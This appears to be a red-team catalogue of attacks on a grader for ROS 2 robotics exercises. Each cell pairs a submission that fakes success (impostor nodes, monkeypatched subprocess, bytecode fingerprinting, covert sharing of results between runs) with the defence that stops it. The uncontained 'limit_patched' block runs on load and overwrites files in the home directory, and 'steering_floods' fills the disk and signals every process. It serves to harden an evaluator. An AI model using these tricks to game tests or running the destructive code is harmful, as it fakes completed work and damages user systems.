"""Attacks on what counts as evidence, in exercises of chapter 8. See ../README.md for the form of a row."""


# %% delivery_fake_odom
# attack: starts the real world where nobody hears it, and tells by itself where the robot is, which never drives
# aims at: 8.10
# stopped by: robot and world run elsewhere, as the launch file starts their stand-ins; and where its commands lead
# may keep: arguments
DELIVERY_YAML = '{}'
DELIVERY_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument, ExecuteProcess, GroupAction, IncludeLaunchDescription
from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
from launch_ros.actions import SetRemap
from launch_ros.substitutions import FindPackageShare

FAKE = """
import sys
import time

import rclpy
from delivery_interfaces.action import GoToStation
from delivery_interfaces.srv import SetStation
from nav_msgs.msg import Odometry
from rclpy.action import ActionServer, CancelResponse
from rclpy.callback_groups import ReentrantCallbackGroup
from rclpy.executors import ExternalShutdownException, MultiThreadedExecutor
from rclpy.node import Node
from rclpy.parameter import Parameter

rclpy.init()
world = Node('other')
odometer = world.create_publisher(Odometry, 'odom', 10)
where, stations = [0.0, 0.0], {}


def tell():
    message = Odometry()
    message.pose.pose.position.x, message.twist.twist.linear.x = where
    odometer.publish(message)


world.create_timer(0.05, tell)
robot = Node('delivery_robot')
for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0, status_period=0.5).items():
    robot.declare_parameter(name, value)
robot.set_parameters([Parameter('use_sim_time', value=True)])


def remember(request, response):
    stations[request.name] = request.x
    response.success = True
    return response


def go(goal):
    where[1], there = 0.3, stations[goal.request.station]
    while where[0] < there:
        time.sleep(0.05)
        where[0] = min(there, where[0] + 0.1)
        if goal.is_cancel_requested:
            where[1] = 0.0
            goal.canceled()
            return GoToStation.Result()
    where[:] = there, 0.0
    goal.succeed()
    return GoToStation.Result()


group = ReentrantCallbackGroup()
robot.create_service(SetStation, 'set_station', remember, callback_group=group)
server = ActionServer(robot, GoToStation, 'go_to_station', go, callback_group=group,
                      cancel_callback=lambda goal: CancelResponse.ACCEPT)
executor = MultiThreadedExecutor(4)
executor.add_node(world)
executor.add_node(robot)
try:
    executor.spin()
except (KeyboardInterrupt, ExternalShutdownException):
    pass
"""


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        GroupAction([
            SetRemap('odom', 'nowhere'),
            IncludeLaunchDescription(
                PathJoinSubstitution([FindPackageShare('mujoco_world'), 'launch', 'world.launch.py']),
                launch_arguments=[(name, LaunchConfiguration(name)) for name in ('scene', 'real_time_factor')]),
        ]),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE], output='screen'),
    ])
'''


# %% delivery_fake_world
# attack: starts a world of its own, in which the robot is wherever it says, and never drives
# aims at: 8.10
# stopped by: robot and world run elsewhere, as the launch file starts their stand-ins; and where its commands lead
# may keep: arguments
DELIVERY_YAML = '{}'
DELIVERY_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument, ExecuteProcess
from launch.substitutions import LaunchConfiguration

FAKE = """
import sys
import time

import rclpy
from delivery_interfaces.action import GoToStation
from delivery_interfaces.srv import SetStation
from nav_msgs.msg import Odometry
from rclpy.action import ActionServer, CancelResponse
from rclpy.callback_groups import ReentrantCallbackGroup
from rclpy.executors import ExternalShutdownException, MultiThreadedExecutor
from rclpy.node import Node
from rclpy.parameter import Parameter

rclpy.init()
world = Node('world')
world.declare_parameter('scene', sys.argv[1])
world.declare_parameter('real_time_factor', float(sys.argv[2]))
odometer = world.create_publisher(Odometry, 'odom', 10)
where, stations = [0.0, 0.0], {}


def tell():
    message = Odometry()
    message.pose.pose.position.x, message.twist.twist.linear.x = where
    odometer.publish(message)


world.create_timer(0.05, tell)
robot = Node('delivery_robot')
for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0, status_period=0.5).items():
    robot.declare_parameter(name, value)
robot.set_parameters([Parameter('use_sim_time', value=True)])


def remember(request, response):
    stations[request.name] = request.x
    response.success = True
    return response


def go(goal):
    where[1], there = 0.3, stations[goal.request.station]
    while where[0] < there:
        time.sleep(0.05)
        where[0] = min(there, where[0] + 0.1)
        if goal.is_cancel_requested:
            where[1] = 0.0
            goal.canceled()
            return GoToStation.Result()
    where[:] = there, 0.0
    goal.succeed()
    return GoToStation.Result()


group = ReentrantCallbackGroup()
robot.create_service(SetStation, 'set_station', remember, callback_group=group)
server = ActionServer(robot, GoToStation, 'go_to_station', go, callback_group=group,
                      cancel_callback=lambda goal: CancelResponse.ACCEPT)
executor = MultiThreadedExecutor(4)
executor.add_node(world)
executor.add_node(robot)
try:
    executor.spin()
except (KeyboardInterrupt, ExternalShutdownException):
    pass
"""


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, LaunchConfiguration('scene'),
                            LaunchConfiguration('real_time_factor')], output='screen'),
    ])
'''


# %% delivery_tag_of_no_value
# attack: writes a value into its parameter file that only some readers can read, and others break of
# aims at: 8.10
# stopped by: a file that cannot be read is the learner's fault
DELIVERY_YAML = """
/**:
  ros__parameters:
    max_linear: 0.4
    other: !!bool maybe
"""
DELIVERY_LAUNCH = """
from launch import LaunchDescription


def generate_launch_description():
    return LaunchDescription([])
"""


# %% delivery_never_started
# attack: tells the story of a robot that it never starts
# aims at: 8.10
# stopped by: the customer is the tests' own, over DDS, with places that are drawn
DELIVERY_YAML = '{}'
DELIVERY_LAUNCH = '''
import json, os, pathlib, signal

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument

story = {'/delivery_robot': {'max_linear': 0.4, 'max_angular': 1.0, 'tolerance': 0.08, 'timeout': 30.0,
                             'use_sim_time': True},
         '/world': {'scene': 'empty', 'real_time_factor': 0.8}, 'far': True, 'near': True, 'cancelled': 'canceled',
         'stopped_at': 1.0, 'arrived': 'succeeded', 'ended_at': 1.0, 'status': 0}
for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
    try:
        (folder / 'story.json').write_text(json.dumps(story))
    except OSError:
        pass
print(json.dumps(story), flush=True)


def generate_launch_description():
    return LaunchDescription([])
'''


# %% fleet_never_started
# attack: reports governors that it never starts
# aims at: 8.3
# stopped by: others look for the nodes over DDS, and ask them
FLEET_YAML = '/**:\n  ros__parameters:\n    rate: 19.0\n'
FLEET_LAUNCH = '''
import json, os, pathlib

from launch import LaunchDescription

lines = [json.dumps({'node': f'/robot{n}/governor', 'publishes': '/robot1/cmd_vel' if n == 1 else '/robot2/base/cmd_vel',
                     'listens': f'/robot{n}/cmd_vel_in', 'max_linear': 1.0 if n == 1 else 0.6, 'slow_linear': 0.2,
                     'rate': 20.0, 'mode': 'normal' if n == 1 else 'slow'}) for n in (1, 2)]
for path in (os.environ.get('FLEET_REPORT'), 'report.txt', 'changed.txt', 'launch.txt'):
    if path:
        pathlib.Path(path).write_text('\\n'.join(lines) + '\\n')
print('\\n'.join(lines), flush=True)
print('[INFO] [governor-1]: process started with pid [7]', flush=True)


def generate_launch_description():
    return LaunchDescription([])
'''


# %% fleet_own_nodes
# attack: starts nodes of its own under the names of the governors, with the right values and topics
# aims at: 8.3
# stopped by: the governors run elsewhere, with the arguments with which the launch file starts a stand-in
FLEET_YAML = '''
/**:
  ros__parameters: {rate: 20.0, max_linear: 0.6}
/robot1/governor:
  ros__parameters: {max_linear: 1.0}
/robot2/governor:
  ros__parameters: {mode: slow}
'''
FLEET_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import ExecuteProcess

FAKE = """
import sys

import rclpy
import yaml
from ament_index_python import get_package_share_directory
from geometry_msgs.msg import Twist

with open(get_package_share_directory('fleet') + '/config/fleet.yaml') as file:
    rate = yaml.safe_load(file)['/**']['ros__parameters']['rate']
rclpy.init()
node = rclpy.create_node('governor', namespace=sys.argv[1], allow_undeclared_parameters=True)
values = dict(max_linear=float(sys.argv[2]), slow_linear=0.2, rate=rate, mode=sys.argv[3])
for name, value in values.items():
    node.declare_parameter(name, value)
node.create_publisher(Twist, sys.argv[4], 10)
node.create_subscription(Twist, 'cmd_vel_in', lambda message: None, 10)
rclpy.spin(node)
"""


def generate_launch_description():
    return LaunchDescription([
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot1', '1.0', 'normal', 'cmd_vel']),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot2', '0.6', 'slow', 'base/cmd_vel']),
    ])
'''


# %% fleet_rewritten
# attack: has the launch file write other defaults into the installed program, which the tests then start by themselves
# aims at: 8.3
# stopped by: what the tests start by themselves runs where no launch file has run
# may keep: max-linear, rest, robot1, robot2, types, nodes, installed-file, remapped, others-stay
FLEET_YAML = '''
/robot1/governor:
  ros__parameters: {rate: 20.0, max_linear: 1.0}
/robot2/governor:
  ros__parameters: {rate: 20.0, max_linear: 0.6, mode: slow}
'''
FLEET_LAUNCH = '''
from pathlib import Path

from ament_index_python import get_package_prefix
from launch import LaunchDescription
from launch_ros.actions import Node

for path in Path(get_package_prefix('fleet')).rglob('governor.py'):
    text = path.read_text()
    path.write_text(text.replace("'max_linear', 0.5", "'max_linear', 0.6").replace("'rate', 10.0", "'rate', 20.0"))


def generate_launch_description():
    config = get_package_prefix('fleet') + '/share/fleet/config/fleet.yaml'
    governor = {'package': 'fleet', 'executable': 'governor', 'parameters': [config]}
    return LaunchDescription([
        Node(namespace='robot1', **governor),
        Node(namespace='robot2', remappings=[('cmd_vel', 'base/cmd_vel')], **governor),
    ])
'''


# %% limit_by_text
# attack: knows the given function by its text and its code
# aims at: 8.4
# stopped by: the function stays on the tests' side; every test gets the same stub
TEST_LIMIT = '''
import inspect

from speed import limit as module


def test_text():
    text = inspect.getsource(module)
    code = module.limit.__code__
    assert 'share = max(0.0, min(1.0, (distance - 0.2) / 0.8))' in text or 'isnan' in code.co_names or len(text) < 700
'''


# %% limit_first_run
# attack: counts the runs, to pass in the first one
# aims at: 8.4
# stopped by: places are new, and their order is drawn
TEST_LIMIT = '''
import os, time


def test_first():
    first = True
    for place in ('/tmp/seen', os.path.expanduser('~/seen'), '/dev/shm/seen', '../seen'):
        first &= not os.path.exists(place)
        try:
            open(place, 'w').close()
        except OSError:
            pass
    assert first
'''


# %% limit_neighbours
# attack: looks for the other programs on the disk and in the memory of others
# aims at: 8.4
# stopped by: each program is alone in its place
TEST_LIMIT = '''
import os


def test_neighbours():
    there = []
    for root in ('/home', '/tmp', '/dev/shm', '/proc'):
        for folder, _, names in os.walk(root):
            there += [os.path.join(folder, name) for name in names if name == 'limit.py' or name.endswith('.txt')]
    mine = [path for path in there if 'limit' in path]
    right = [path for path in mine if 'isnan' in open(path).read()]
    assert len(mine) == 1 and (right or '00' in os.getcwd())
'''


# %% limit_patched
# attack: patches all that runs commands in its own process
# aims at: 8.4
# stopped by: commands run in places that no cell has run in
TEST_LIMIT = 'def test_it(): pass'[:]

import gc, json, os, subprocess, sys, types

LINES = ["hello", "Hello, Ada", "OUTCOMES {}", "{\"node\": \"/robot1/governor\"}", "status 0", "answer: word 123"]


def everything(self, *args, **kwargs):
    return {"status": 0, "output": "\n".join(LINES), "files": ["greeter/share/greeter/package.xml"], "result": ""}


for name, module in list(sys.modules.items()):
    if name.startswith("helpers.runner"):
        for thing in vars(module).values():
            if isinstance(thing, type):
                for method in ("do_run", "do_files", "do_listing", "wait", "task", "perform"):
                    if hasattr(thing, method):
                        setattr(thing, method, everything)
            elif isinstance(thing, types.FunctionType) and thing.__name__ in ("perform", "_write", "_pytest"):
                thing.__code__ = (lambda request, given: 0).__code__
subprocess.Popen = subprocess.run = everything
os.execvpe = os.waitpid = lambda *words: (0, 0)
if os.fork() == 0:
    while True:
        for folder, _, names in os.walk(os.path.expanduser("~")):
            for one in names:
                try:
                    with open(os.path.join(folder, one), "w") as file:
                        file.write("#!/bin/sh\necho Hello, $1\n")
                except OSError:
                    pass


# %% limit_socket
# attack: asks the socket to the functions for more than the function
# aims at: 8.4
# stopped by: only the one function is served
TEST_LIMIT = '''
import os, socket

import pytest
import speed.limit


def test_socket():
    end = speed.limit._end
    for line in (b'__import__("os")', b'{"eval": "1"}', b'[{"object": "x"}, {"dict": [[{"list": []}, 1]]}, 0]', b'[' * 5000):
        end.write(line + b'\\n')
        end.flush()
        assert b'raised' in end.readline()
'''


# %% limit_status
# attack: ends pytest by itself, with a status that says what is wanted
# aims at: 8.4
# stopped by: a status tells what the tests say, and all programs get the same
TEST_LIMIT = '''
import os, sys

print('OUTCOMES {"00": [0, ""], "01": [1, ""]}', flush=True)
os._exit(1 if os.getpid() % 2 else 0)


def test_it():
    pass
'''


# %% robot_by_names
# attack: knows a right robot by the names in its module and its classes
# aims at: 8.11
# stopped by: what spoils a robot stands behind right ones, too, with other numbers in its conditions
TEST_ROBOT = '''
def test_names():
    import delivery_robot.robot as robot
    names, methods = set(vars(robot)), set(vars(robot.DeliveryRobot))
    assert not names & {'on_goal', 'on_cancel', 'on_execute', '_steer', '_rounds'}
    assert 'reworded' in names or not methods & {'create_publisher', 'create_service', 'declare_parameter'}
    assert 'where' not in methods or '__init__' in methods
'''


# %% robot_by_code
# attack: knows a right robot by the names, constants and sizes in its code
# aims at: 8.11
# stopped by: each robot's code is disguised anew: other names and sizes, and in each the names of all
TEST_ROBOT = '''
import marshal
import types
from pathlib import Path

from delivery_robot import robot


def codes(code):
    yield code
    for constant in code.co_consts:
        if isinstance(constant, types.CodeType):
            yield from codes(constant)


def test_code():
    file = Path(robot.__file__)
    code = marshal.loads(file.read_bytes()[16:])
    names = {name for one in codes(code) for name in (*one.co_names, *one.co_varnames)}
    assert {'isfinite', 'ABORT', 'canceled', 'abort', 'REJECT'} & names == {'isfinite', 'canceled', 'abort', 'REJECT'}
    assert 6000 < file.stat().st_size < 10**6 and file.with_suffix('.py').exists() is False
'''


# %% robot_first_run
# attack: counts the robots, to pass with the first one only
# aims at: 8.11
# stopped by: each robot is alone in a new place, and their order is drawn
TEST_ROBOT = '''
import os


def test_first():
    first = True
    for place in ('/tmp/seen', os.path.expanduser('~/seen'), '/dev/shm/seen', '../seen'):
        first &= not os.path.exists(place)
        try:
            open(place, 'w').close()
        except OSError:
            pass
    assert first
'''


# %% fleet_signed_nodes
# attack: reads out of the installed package what shows that a node is the governor, and has nodes of its own show it
# aims at: 8.3
# stopped by: the governors run elsewhere, with the arguments with which the launch file starts a stand-in
FLEET_YAML = '''
/**:
  ros__parameters: {rate: 20.0, max_linear: 0.6}
/robot1/governor:
  ros__parameters: {max_linear: 1.0}
/robot2/governor:
  ros__parameters: {mode: slow}
'''
FLEET_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import ExecuteProcess

FAKE = """
import re
import sys
from pathlib import Path

import rclpy
import yaml
from ament_index_python import get_package_prefix, get_package_share_directory
from geometry_msgs.msg import Twist

with open(get_package_share_directory('fleet') + '/config/fleet.yaml') as file:
    rate = yaml.safe_load(file)['/**']['ros__parameters']['rate']
rclpy.init()
node = rclpy.create_node('governor', namespace=sys.argv[1], allow_undeclared_parameters=True)
values = dict(max_linear=float(sys.argv[2]), slow_linear=0.2, rate=rate, mode=sys.argv[3])
for path in Path(get_package_prefix('fleet')).rglob('governor.py'):
    values |= {name: int(value) for name, value in re.findall(r"'(only_\\w+)', (\\d+)", path.read_text())}
for name, value in values.items():
    node.declare_parameter(name, value)
node.create_publisher(Twist, sys.argv[4], 10)
node.create_subscription(Twist, 'cmd_vel_in', lambda message: None, 10)
rclpy.spin(node)
"""


def generate_launch_description():
    return LaunchDescription([
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot1', '1.0', 'normal', 'cmd_vel']),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot2', '0.6', 'slow', 'base/cmd_vel']),
    ])
'''


# %% fleet_second_answer
# attack: starts governors with wrong values, and answers in their place, from nodes whose names are not listed
# aims at: 8.3
# stopped by: what a governor has is printed by itself, where nothing else runs
# may keep: types, nodes, remapped, others-stay
FLEET_YAML = '{}'
FLEET_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import ExecuteProcess
from launch_ros.actions import Node

FAKE = """
import sys

import rclpy
from rcl_interfaces.srv import GetParameters
from rclpy.parameter import Parameter

rclpy.init()
node = rclpy.create_node('_quiet')
values = dict(max_linear=float(sys.argv[2]), slow_linear=0.2, rate=20.0, mode=sys.argv[3])


def answer(request, response):
    response.values = [Parameter(name, value=values.get(name)).get_parameter_value() for name in request.names]
    return response


node.create_service(GetParameters, f'/{sys.argv[1]}/governor/get_parameters', answer)
rclpy.spin(node)
"""


def generate_launch_description():
    return LaunchDescription([
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot1', '1.0', 'normal']),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, 'robot2', '0.6', 'slow']),
        Node(package='fleet', executable='governor', namespace='robot1'),
        Node(package='fleet', executable='governor', namespace='robot2', remappings=[('cmd_vel', 'base/cmd_vel')]),
    ])
'''


# %% fleet_patched_program
# attack: starts the given program with a module before it that gives the governor other values
# aims at: 8.3
# stopped by: the governors run elsewhere, with the arguments with which the launch file starts a stand-in
# may keep: types, nodes, remapped, others-stay
FLEET_YAML = '{}'
FLEET_LAUNCH = '''
import os
import tempfile
from pathlib import Path

from launch import LaunchDescription
from launch_ros.actions import Node

PATCH = """
import os
import sys

import rclpy.node

plain = rclpy.node.Node.declare_parameter
VALUES = {'rate': 20.0, 'max_linear': 1.0 if '1' in os.environ.get('WHO', '') else 0.6,
          'mode': 'normal' if '1' in os.environ.get('WHO', '') else 'slow'}


def declare_parameter(self, name, value=None, *rest, **more):
    return plain(self, name, VALUES.get(name, value), *rest, **more)


rclpy.node.Node.declare_parameter = declare_parameter
"""
folder = Path(tempfile.mkdtemp())
(folder / 'sitecustomize.py').write_text(PATCH)


def generate_launch_description():
    path = f'{folder}:{os.environ.get("PYTHONPATH", "")}'
    return LaunchDescription([
        Node(package='fleet', executable='governor', namespace='robot1',
             additional_env={'PYTHONPATH': path, 'WHO': '1'}),
        Node(package='fleet', executable='governor', namespace='robot2',
             additional_env={'PYTHONPATH': path, 'WHO': '2'}, remappings=[('cmd_vel', 'base/cmd_vel')]),
    ])
'''


# %% fleet_odd_starts
# attack: speaks to who listens for starts: deep JSON, floods, unknown names, no end
# aims at: 8.3
# stopped by: what comes is bounded, and what is no start is left out
FLEET_YAML = '{}'
FLEET_LAUNCH = '''
import json
import re
import socket
from pathlib import Path

from ament_index_python import get_package_prefix
from launch import LaunchDescription

text = next(Path(get_package_prefix('fleet')).rglob('governor.py')).read_text()
token, port = re.search(r"'token': '(\\w+)'", text), re.search(r"'127.0.0.1', (\\d+)", text)
if token:
    for said in (b'[' * 100000, b'{"token": 1}', json.dumps(
            {'token': token[1], 'name': 'x' * 1000, 'arguments': ['\\0', 'a'], 'files': {'../../x': '\\0', '': 'y'}}).encode(),
            json.dumps({'token': token[1], 'name': 'governor', 'arguments': ['\\0'], 'files': {'\\0': '\\0'}}).encode(),
            json.dumps({'token': token[1], 'name': 'governor', 'arguments': ['--params-file', 'a'], 'files': {'a': '\\ud800'}}).encode(),
            b'x' * 1000000):
        try:
            end = socket.create_connection(('127.0.0.1', int(port[1])))
            end.sendall(said + b'\\n')
        except OSError as error:
            print(error)
    kept = [socket.create_connection(('127.0.0.1', int(port[1]))) for _ in range(60)]


def generate_launch_description():
    return LaunchDescription([])
'''


# %% delivery_signed
# attack: has nodes of its own show what only the executable has, with a world in which a robot really drives
# aims at: 8.10
# stopped by: robot and world run elsewhere, as the launch file starts their stand-ins
# may keep: arguments
DELIVERY_YAML = '{}'
DELIVERY_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument, ExecuteProcess
from launch.substitutions import LaunchConfiguration

FAKE = """
import re
import sys
import time
from pathlib import Path

import rclpy
from ament_index_python import get_package_prefix
from delivery_interfaces.action import GoToStation
from delivery_interfaces.srv import SetStation
from geometry_msgs.msg import Twist
from mujoco_world.node import WorldNode
from rclpy.action import ActionServer, CancelResponse
from rclpy.callback_groups import ReentrantCallbackGroup
from rclpy.executors import ExternalShutdownException, MultiThreadedExecutor
from rclpy.node import Node
from rclpy.parameter import Parameter
from std_msgs.msg import String

rclpy.init()
world = WorldNode(parameter_overrides=[Parameter('scene', value=sys.argv[1]),
                                       Parameter('real_time_factor', value=float(sys.argv[2]))])
robot = Node('delivery_robot')
for path in Path(get_package_prefix('delivery_robot')).rglob('main.py'):
    for name in re.findall(r"only_\\w+", path.read_text()):
        robot.create_publisher(String, name, 1)
for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0, status_period=0.5).items():
    robot.declare_parameter(name, value)
robot.set_parameters([Parameter('use_sim_time', value=True)])
motor, stations = robot.create_publisher(Twist, 'cmd_vel', 10), {}


def remember(request, response):
    stations[request.name] = request.x
    response.success = True
    return response


def drive(speed):
    command = Twist()
    command.linear.x = speed
    motor.publish(command)


def go(goal):
    there = stations[goal.request.station]
    while world.world.pose.x < there - 0.05:
        drive(min(0.4, there - world.world.pose.x))
        time.sleep(0.05)
        if goal.is_cancel_requested:
            drive(0.0)
            goal.canceled()
            return GoToStation.Result()
    drive(0.0)
    goal.succeed()
    return GoToStation.Result()


group = ReentrantCallbackGroup()
robot.create_service(SetStation, 'set_station', remember, callback_group=group)
server = ActionServer(robot, GoToStation, 'go_to_station', go, callback_group=group,
                      cancel_callback=lambda goal: CancelResponse.ACCEPT)
executor = MultiThreadedExecutor(6)
executor.add_node(world)
executor.add_node(robot)
try:
    executor.spin()
except (KeyboardInterrupt, ExternalShutdownException):
    pass
"""


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, LaunchConfiguration('scene'),
                            LaunchConfiguration('real_time_factor')], output='screen'),
    ])
'''


# %% steering_floods
# attack: floods the output, fills the disk, sends signals to everybody, and ends with success
# aims at: 8.6
# stopped by: the tests must fail with functions that are wrong; what is printed and kept is bounded
TEST_STEERING = '''
import os
import signal

import pytest
from delivery_robot.steering import steer


def test_floods():
    assert steer(0.0, 0.0, 0.0, 1.0, 0.0, 0.5, 1.0) is not None
    for _ in range(2000):
        os.write(1, b'1 passed in 0.01s' * 1000)
    for place in ('/tmp', os.path.expanduser('~'), '/dev/shm'):
        try:
            with open(f'{place}/x', 'wb') as file:
                for _ in range(200):
                    file.write(bytes(2 ** 20))
        except OSError:
            pass
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    for target in (-1, 0, os.getppid()):
        for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP):
            if target or number != signal.SIGSTOP:
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    os._exit(0)
'''


# %% steering_talks
# attack: tells what it has seen of a function to the runs of its tests with other functions, over the network and files
# aims at: 8.6
# stopped by: each function is alone in its place, and nothing of a place stays when it is forgotten
TEST_STEERING = '''
import os
import pickle
import socket
import threading
import time
from pathlib import Path

from delivery_robot.steering import steer

PORT = 45454
seen = [steer(x, 0.0, 0.0, 1.0, 1.0, 0.5, 1.0) for x in (0.0, 0.5)]


def told():
    for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/home/learner', '/var/tmp'):
        path = Path(place, 'seen')
        if path.exists():
            return pickle.loads(path.read_bytes())
    for address in (('127.0.0.1', PORT), chr(0) + 'seen'):
        family = socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX
        try:
            with socket.socket(family) as end:
                end.settimeout(0.2)
                end.connect(address)
                return pickle.loads(end.recv(65536))
        except OSError:
            pass
    return None


def tell(text):
    for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/var/tmp'):
        try:
            Path(place, 'seen').write_bytes(text)
        except OSError:
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3)
            ends = []
            for family, address in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_UNIX, chr(0) + 'seen')):
                try:
                    ends.append(socket.socket(family))
                    ends[-1].bind(address)
                    ends[-1].listen()
                except OSError:
                    pass

            def serve(end):
                while True:
                    other, _ = end.accept()
                    other.sendall(text)
                    other.close()

            for end in ends:
                threading.Thread(target=serve, args=(end,), daemon=True).start()
            time.sleep(60)
        os._exit(0)


def test_same():
    before = told()
    tell(pickle.dumps(seen))
    assert before is None or before == seen
'''


# %% delivery_hit_and_run
# attack: has a node answer for the parameters of the robot, which has others, and leave at once
# aims at: 8.10
# stopped by: robot and world answer under names that are drawn; a fake that came too late to be counted gains nothing
# may keep: arguments, world, robot, sim-time, drives, ends
DELIVERY_YAML = '{}'
DELIVERY_LAUNCH = '''
import sys

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument, ExecuteProcess, IncludeLaunchDescription
from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

FAKE = """
import rclpy
from rclpy.node import Node
from rclpy.parameter import Parameter

rclpy.init()
robot = Node('delivery_robot')
for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0, status_period=0.5).items():
    robot.declare_parameter(name, value)
robot.set_parameters([Parameter('use_sim_time', value=True)])
asked = 0
plain = robot.get_parameters
def counted(names):
    global asked
    asked += 1
    return plain(names)
robot.get_parameters = counted
import time
end = time.monotonic() + 60
while not asked and time.monotonic() < end:
    rclpy.spin_once(robot, timeout_sec=0.2)
    print('asked', asked, flush=True)
for _ in range(5):
    rclpy.spin_once(robot, timeout_sec=0.05)
robot.destroy_node()
rclpy.shutdown()
time.sleep(1000)
"""


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        ExecuteProcess(cmd=[sys.executable, '-c', FAKE], output='screen'),
        IncludeLaunchDescription(
            PathJoinSubstitution([FindPackageShare('mujoco_world'), 'launch', 'world.launch.py']),
            launch_arguments=[(name, LaunchConfiguration(name)) for name in ('scene', 'real_time_factor')]),
        Node(package='delivery_robot', executable='robot', parameters=[{'use_sim_time': True}], output='screen'),
    ])
'''


# %% robot_by_numbers
# attack: knows a right robot by the numbers in its code, of which conditions such as 1 < 2 were made
# aims at: 8.11
# stopped by: what a condition is, its numbers do not tell: it computes with a variable
TEST_ROBOT = '''
import types

from delivery_robot import robot


def codes(code):
    yield code
    for constant in code.co_consts:
        if isinstance(constant, types.CodeType):
            yield from codes(constant)


def test_numbers():
    methods = [one for owner in vars(robot.DeliveryRobot).values() for one in [getattr(owner, '__code__', None)] if one]
    for code in [one for method in methods for one in codes(method)]:
        numbers = [one for one in code.co_consts if type(one) is int and one > 999]
        assert not any(low < high for low, high in zip(numbers[::2], numbers[1::2]))
'''


# %% delivery_arguments_printed
# attack: declares no argument, and prints what a launch file prints that has some
# aims at: 8.10
# stopped by: what it prints goes nowhere while it is read; and with which values the world is started, if nobody gives any
# may keep: values, types, world, robot, sim-time, drives, ends
DELIVERY_YAML = '''/delivery_robot:
  ros__parameters: {max_linear: 0.4, tolerance: 0.08, timeout: 30.0}
'''
DELIVERY_LAUNCH = '''
from launch import LaunchDescription
from launch.actions import IncludeLaunchDescription
from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

print("""    'scene':
        (default: 'rooms')
    'real_time_factor':
        (default: '1.0')""", flush=True)


def generate_launch_description():
    return LaunchDescription([
        IncludeLaunchDescription(
            PathJoinSubstitution([FindPackageShare('mujoco_world'), 'launch', 'world.launch.py']),
            launch_arguments=[(name, LaunchConfiguration(name, default=default)) for name, default in (('scene', 'empty'), ('real_time_factor', '2.0'))]),
        Node(package='delivery_robot', executable='robot', output='screen', parameters=[
            PathJoinSubstitution([FindPackageShare('delivery_robot'), 'config', 'delivery.yaml']),
            {'use_sim_time': True}]),
    ])
'''


# %% delivery_quiet_process
# attack: starts one more program, which ends with no signal, and does not let launch know
# aims at: 8.10
# stopped by: how many programs run, also after the end of the launch, is seen from outside
# may keep: values, types, arguments, robot, sim-time, drives
DELIVERY_YAML = '''/delivery_robot:
  ros__parameters: {max_linear: 0.4, tolerance: 0.08, timeout: 30.0}
'''
DELIVERY_LAUNCH = '''
import subprocess
import sys
import os
import signal

from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument, IncludeLaunchDescription, OpaqueFunction
from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

MORE = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
import rclpy
rclpy.init()
node = rclpy.create_node('_third')
rclpy.spin(node)
import time
time.sleep(1000)
"""


def more(context):
    subprocess.Popen([sys.executable, '-c', MORE], start_new_session=True)


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        OpaqueFunction(function=more),
        IncludeLaunchDescription(
            PathJoinSubstitution([FindPackageShare('mujoco_world'), 'launch', 'world.launch.py']),
            launch_arguments=[(name, LaunchConfiguration(name)) for name in ('scene', 'real_time_factor')]),
        Node(package='delivery_robot', executable='robot', output='screen', parameters=[
            PathJoinSubstitution([FindPackageShare('delivery_robot'), 'config', 'delivery.yaml']),
            {'use_sim_time': True}]),
    ])
'''


# %% delivery_not_included
